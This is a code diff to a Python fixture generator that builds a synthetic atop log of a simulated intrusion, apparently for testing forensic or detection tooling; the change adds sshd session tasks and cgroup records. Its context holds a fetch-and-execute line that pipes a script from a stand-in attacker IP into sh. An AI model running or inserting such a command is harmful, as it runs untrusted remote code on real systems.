@@ -70,8 +70,9 @@ def CreateIntrusionLog(hostname):
         _GetTask(
             501, 500, -8000, b"apache2", b"/usr/sbin/apache2 -k start", **www_data
         ),
-        _GetTask(600, 1, -8000, b"sshd", b"sshd: /usr/sbin/sshd -D"),
-        _GetTask(610, 600, -700, b"bash", b"-bash", **user),
+        _GetTask(600, 1, -8000, b"sshd", b"sshd: /usr/sbin/sshd -D [listener]"),
+        _GetTask(605, 600, -702, b"sshd", b"sshd: alice [priv]"),
+        _GetTask(610, 605, -700, b"bash", b"-bash", **user),
     ]
     download = b"sh -c curl -s http://192.0.2.66/x.sh | sh"
     shells = [
@@ -107,6 +108,12 @@ def CreateIntrusionLog(hostname):
         ),
     ]
     intruder = [*shells, busy_miner, script, kernel_thread, set_user_identifier]
+    service = [500, 501, 700, 702, 710, 711, 720, 730, 750]
+    cgroups = [
+        log_builder.Cgroup(b"", -1, [1], {}),
+        log_builder.Cgroup(b"apache2.service", 0, service, {}),
+        log_builder.Cgroup(b"session-4.scope", 0, [605, 610, 760], {}),
+    ]
 
     builder = log_builder.LogBuilder(
         version="2.12", utsname={"nodename": hostname.encode("ascii")}
@@ -122,6 +129,7 @@ def CreateIntrusionLog(hostname):
             | log_builder.FLAG_IOSTAT
             | (0 if index else log_builder.FLAG_BOOT),
             tasks=tasks,
+            cgroups=cgroups,
         )
     # What atop did not record in between is a gap.
     builder.AddSample(
@@ -129,6 +137,7 @@ def CreateIntrusionLog(hostname):
         interval=_INTERVAL,
         flags=log_builder.FLAG_ACCOUNTING | log_builder.FLAG_IOSTAT,
         tasks=samples[-1],
+        cgroups=cgroups,
     )
     return builder.Build()
 
